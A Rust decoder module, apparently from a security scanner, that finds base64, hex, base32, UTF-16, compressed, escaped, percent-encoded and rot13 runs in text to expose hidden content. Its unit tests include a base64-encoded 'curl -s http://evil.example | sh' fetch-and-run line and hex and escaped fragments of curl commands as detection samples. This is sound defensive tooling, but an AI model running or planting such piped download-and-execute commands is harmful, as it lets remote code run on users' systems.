//! Decoders: what is behind base64, hex, percent signs, escapes, rot13 and compression.

mod spelled;

pub use spelled::{escapes, percent};

use super::encoding::{base32, base64, from_hex, inflate};

/// What came out of a decoder.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decoded {
    /// Where the encoded text begins.
    pub start: usize,
    /// Where it ends.
    pub end: usize,
    /// The encoding, in words.
    pub how: &'static str,
    /// The text.
    pub text: String,
}

/// The longest encoded run that is decoded, and how many runs of one text are.
pub const LONGEST: usize = 1 << 20;
const MOST: usize = 400;

/// The shortest run that is looked at.
const SHORTEST: usize = 16;

/// Every run of a text that decodes to readable text.
pub fn runs(text: &str) -> Vec<Decoded> {
    let mut found = Vec::new();
    let mut at = 0;
    while let Some((start, end)) = next_run(text.as_bytes(), at) {
        if found.len() >= MOST {
            break;
        }
        if end - start <= LONGEST
            && let Some(run) = text.get(start..end)
        {
            found.extend(run_of(run, start));
        }
        at = end + 1;
    }
    spelled::escaped(text, &mut found);
    spelled::reversed(text, &mut found);
    found
}

/// The next run that is long enough, from a byte that no run goes over. Such a run holds the last byte of
/// every stretch of its least length that it begins in, so that most others need not be looked at.
fn next_run(bytes: &[u8], from: usize) -> Option<(usize, usize)> {
    let mut at = from;
    loop {
        let stretch = bytes.get(at..at + SHORTEST)?;
        if let Some(gap) = stretch.iter().rposition(|byte| !is_code_letter(*byte)) {
            at += gap + 1;
            continue;
        }
        let rest = bytes.get(at + SHORTEST..)?;
        let more = rest.iter().position(|byte| !is_code_letter(*byte));
        return Some((at, at + SHORTEST + more.unwrap_or(rest.len())));
    }
}

fn is_code_letter(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_')
}

fn run_of(run: &str, start: usize) -> Option<Decoded> {
    let done = |how, text| Decoded {
        start,
        end: start + run.len(),
        how,
        text,
    };
    let hex = run.strip_prefix("0x").unwrap_or(run);
    if hex.len().is_multiple_of(2)
        && hex.len() >= 24
        && hex.bytes().all(|byte| byte.is_ascii_hexdigit())
    {
        return readable(&from_hex(hex)?).map(|text| done("hex", text));
    }
    let varied = run
        .bytes()
        .any(|byte| byte.is_ascii_digit() || byte.is_ascii_uppercase())
        && run.bytes().any(|byte| byte.is_ascii_lowercase());
    if !varied || run.contains('-') && run.contains('+') {
        return base32(run)
            .and_then(|bytes| readable(&bytes))
            .map(|text| done("base32", text));
    }
    if !may_be_base64(run) {
        return None;
    }
    let bytes = base64(run)?;
    if let Some(text) = readable(&bytes) {
        return Some(done("base64", text));
    }
    if let Some(text) = utf16(&bytes) {
        return Some(done("base64 of UTF-16", text));
    }
    inflate(&bytes)
        .and_then(|inner| readable(&inner))
        .map(|text| done("base64 of compressed text", text))
}

/// Whether the first letters of a run leave it open that it decodes to text, in UTF-16 or compressed too:
/// nearly all long names and paths are told apart by them, without decoding the rest.
fn may_be_base64(run: &str) -> bool {
    const HEAD: usize = 16;
    let head = run.get(..HEAD.min(run.len())).unwrap_or(run);
    let Some(bytes) = base64(head) else {
        return false;
    };
    let is_compressed = matches!(bytes.as_slice(), [0x1f, 0x8b, ..] | [0x78, ..]);
    let is_control = |byte: &u8| byte.is_ascii_control() && !matches!(byte, b'\n' | b'\t' | b'\r');
    let is_cut = std::str::from_utf8(&bytes).is_err_and(|cause| cause.error_len().is_none());
    let is_text = is_cut || std::str::from_utf8(&bytes).is_ok();
    // UTF-16 has bytes of zero, and of those that stand where they must some are the letter `A`.
    is_compressed || run.contains('A') || is_text && !bytes.iter().any(is_control)
}

fn utf16(bytes: &[u8]) -> Option<String> {
    let pairs = bytes.chunks_exact(2);
    let zeros = bytes
        .iter()
        .skip(1)
        .step_by(2)
        .filter(|byte| **byte == 0)
        .count();
    if bytes.len() < 16 || zeros * 3 < bytes.len() {
        return None;
    }
    let text: String = char::decode_utf16(pairs.map(|pair| match pair {
        [low, high] => u16::from_le_bytes([*low, *high]),
        _ => 0,
    }))
    .collect::<Result<_, _>>()
    .ok()?;
    readable(text.as_bytes())
}

/// Bytes as text, if they are readable: valid UTF-8, hardly any control characters, some words.
pub fn readable(bytes: &[u8]) -> Option<String> {
    if bytes.len() < 8 {
        return None;
    }
    let text = std::str::from_utf8(bytes).ok()?;
    let odd = text
        .chars()
        .filter(|letter| letter.is_control() && !matches!(letter, '\n' | '\t' | '\r'))
        .count();
    let plain = text
        .bytes()
        .filter(|byte| byte.is_ascii_graphic() || *byte == b' ')
        .count();
    (odd == 0 && plain * 10 >= text.len() * 7).then(|| text.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::encoding::{base85, rot13};

    #[test]
    fn each_encoding_is_undone() {
        assert_eq!(
            runs("x = 'Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g='")[0].text,
            "curl -s http://evil.example | sh"
        );
        assert_eq!(runs("6375726c202d7320687474703a2f2f612e62")[0].how, "hex");
        assert_eq!(escapes("\\x63url\\141"), "curla");
        assert_eq!(percent("%63url"), "curl");
        assert_eq!(rot13("phey"), "curl");
        assert_eq!(
            base85("Xk~0{Zv")
                .map(|bytes| String::from_utf8(bytes).unwrap())
                .as_deref(),
            Some("hello")
        );
        assert_eq!(
            runs("\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x78")[0].text,
            "curl -s x"
        );
    }

    #[test]
    fn digests_and_identifiers_are_left_alone() {
        assert!(
            runs("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855").is_empty()
        );
        assert!(runs("AbstractSingletonProxyFactoryBean").is_empty());
    }
}
